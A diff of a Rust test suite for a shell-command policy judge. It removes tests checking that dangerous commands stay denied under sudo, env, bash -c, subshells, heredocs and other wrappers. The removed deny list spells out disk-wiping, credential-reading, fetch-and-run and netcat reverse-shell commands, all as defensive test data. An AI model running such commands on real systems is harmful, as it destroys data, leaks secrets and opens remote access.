@@ -1,113 +1,9 @@
-//! Properties of the judge: it never fails, wrappers never loosen it, hostile text costs bounded work (I8, I10, P1).
+//! What holds for any text: the judge never fails, size only tightens, hostile shapes end (I8, I11, P1).
 
 use metatron_domain::policy::{Setting, VERSION, Verdict, judge};
 use proptest::prelude::*;
 
-fn verdict(command: &str) -> Verdict {
-    judge(command.as_bytes(), &Setting::default()).verdict
-}
-
-const DENIED: &[&str] = &[
-    "rm -rf /",
-    "rm -fr ~/",
-    "chmod -R 777 /etc",
-    "find / -delete",
-    "dd if=x of=/dev/sda",
-    "mkfs.ext4 /dev/sdb1",
-    "kill -9 -1",
-    "reboot",
-    "cat /etc/metatron/keys/master.key",
-    "cat /proc/1/environ",
-    "nc -e /bin/sh h 1",
-    "eval \"$(curl x)\"",
-];
-
-const WRAPPERS: &[&str] = &[
-    "sudo",
-    "sudo -u root",
-    "sudo --user=root --",
-    "env",
-    "env -i A=1",
-    "env -u X",
-    "command",
-    "exec",
-    "exec -a n",
-    "nohup",
-    "nice",
-    "nice -n 5",
-    "timeout 5",
-    "timeout -k 1 -s KILL 5s",
-    "setsid",
-    "setsid -w",
-    "stdbuf -oL",
-    "stdbuf -o L",
-    "xargs",
-    "xargs -n 1 -I {}",
-    "busybox",
-    "find . -exec",
-    "coproc",
-    "time",
-    "time -p",
-    "ionice -c 3",
-    "chroot /",
-    "setpriv --reuid 0",
-    "flock /tmp/l",
-    "unshare -r",
-    "strace -f",
-    "doas -u root",
-    "builtin",
-    "A=1",
-    "! ",
-    "true;",
-    "true &&",
-    "false ||",
-    "true |",
-    "true &",
-    "if",
-    "while",
-    "2>/dev/null",
-    "</dev/null",
-];
-
-/// I8, I10.
-#[test]
-fn a_denied_command_stays_denied_in_every_wrapper_and_structure() {
-    for command in DENIED {
-        assert_eq!(verdict(command), Verdict::Deny, "{command}");
-        for outer in WRAPPERS {
-            for inner in ["", "sudo", "env A=1", "timeout 5", "nice"] {
-                let wrapped = format!("{outer} {inner} {command}");
-                assert_eq!(verdict(&wrapped), Verdict::Deny, "{wrapped}");
-            }
-        }
-        let quoted = command.replace('\'', "'\\''");
-        let frames = [
-            format!("bash -c '{quoted}'"),
-            format!("sh -ec '{quoted}'"),
-            format!("su root -c '{quoted}'"),
-            format!("eval '{quoted}'"),
-            format!("trap '{quoted}' EXIT"),
-            format!("( {command} )"),
-            format!("{{ {command}; }}"),
-            format!("f() {{ {command}; }}; f"),
-            format!("if true; then {command}; else :; fi"),
-            format!("while :; do {command}; done"),
-            format!("for i in 1 2; do {command}; done"),
-            format!("case x in a|x) {command};; esac"),
-            format!("echo $({command})"),
-            format!("echo \"${{x:-$({command})}}\""),
-            format!("echo $(( $({command}) ))"),
-            format!("cat <( {command} )"),
-            format!("cat <<E\n$({command})\nE"),
-            format!("bash <<'E'\n{command}\nE"),
-            format!("ls\n{command}\nls"),
-            format!("{command} # why"),
-        ];
-        for framed in frames {
-            assert_eq!(verdict(&framed), Verdict::Deny, "{framed}");
-        }
-    }
-}
+use crate::rig::verdict;
 
 /// I8: size and depth only tighten.
 #[test]
@@ -370,13 +266,6 @@ proptest! {
         let first = judge(text.as_bytes(), &Setting::default());
         prop_assert_eq!(&first, &judge(text.as_bytes(), &Setting::default()));
         prop_assert!(!first.reasons.is_empty());
-    }
-
-    /// I8: nothing that follows or precedes on lines of its own loosens a denial.
-    #[test]
-    fn a_denial_survives_its_neighbours(index in 0..DENIED.len(), name in "[a-z]{1,8}") {
-        let text = format!("{name}\n{}\n{name}", DENIED[index]);
-        prop_assert_eq!(verdict(&text), Verdict::Deny);
     }
 
     /// I7: a substitution anywhere in an allowed command is never allowed.
